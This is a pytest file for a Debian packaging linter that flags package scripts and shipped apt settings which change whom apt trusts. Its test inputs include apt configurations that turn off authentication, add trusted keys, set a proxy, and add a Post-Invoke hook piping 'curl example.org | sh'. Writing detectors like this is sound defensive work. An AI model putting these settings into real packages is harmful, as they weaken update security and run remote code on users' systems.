"""What a package does to apt: whom it trusts is an error, what it is set to a warning, unless that switches its checks off."""

from __future__ import annotations

import pytest

from recipes_app.lint.checks import examples, registry
from recipes_app.lint.checks.base import CheckContext


def found(files: dict[str, str]) -> dict[str, list[str]]:
    """Return path and line of the findings about apt in the base recipe with `files` laid over it, by id."""
    tree = {path: text.encode() for path, text in {**examples.BASE, **files}.items()}
    places: dict[str, list[str]] = {}
    for finding in registry.run_checks(tree, CheckContext()):
        if finding.id in {"DUR745", "DUR760"}:
            places.setdefault(finding.id, []).append(f"{finding.path}:{finding.line}")
    return places


def postinst(line: str) -> dict[str, str]:
    return {"debian/postinst": f"#!/bin/sh\nset -e\n{line}\n#DEBHELPER#\n"}


@pytest.mark.parametrize(
    "line",
    [
        "cp /usr/share/hello-dur/key.gpg /etc/apt/trusted.gpg.d/hello.gpg",
        "cp /usr/share/hello-dur/key.gpg /usr/share/keyrings/hello.gpg",
        "echo 'Package: *' > /etc/apt/preferences.d/hello",
        "echo 'APT::Get::AllowUnauthenticated \"1\";' > /etc/apt/apt.conf.d/99hello",
        "add-apt-repository -y ppa:hello/dur",
    ],
)
def test_whom_apt_trusts_is_an_error(line):
    assert found(postinst(line)) == {"DUR745": ["debian/postinst:3"]}


@pytest.mark.parametrize("line", ["rm -f /etc/apt/apt.conf.d/99hello", "grep -r hello /etc/apt/sources.list.d", "apt-key list"])
def test_looking_and_tidying_is_nothing(line):
    assert found(postinst(line)) == {}


@pytest.mark.parametrize(
    ("setting", "code"),
    [
        ('Acquire::Languages "none";\n', "DUR760"),
        ('Acquire::AllowInsecureRepositories "true";\n', "DUR745"),
        ('DPkg::Post-Invoke { "curl example.org | sh"; };\n', "DUR745"),
        ('Acquire::http::Proxy "http://192.0.2.1:3128";\n', "DUR745"),
    ],
)
def test_a_setting_that_is_shipped_is_read(setting, code):
    assert found({"debian/install": "debian/90hello etc/apt/apt.conf.d\n", "debian/90hello": setting}) == {
        code: ["debian/install:1"]
    }


def test_a_keyring_that_is_only_shipped_is_believed_by_nobody():
    assert found({"debian/install": "hello.gpg usr/share/keyrings\n"}) == {}
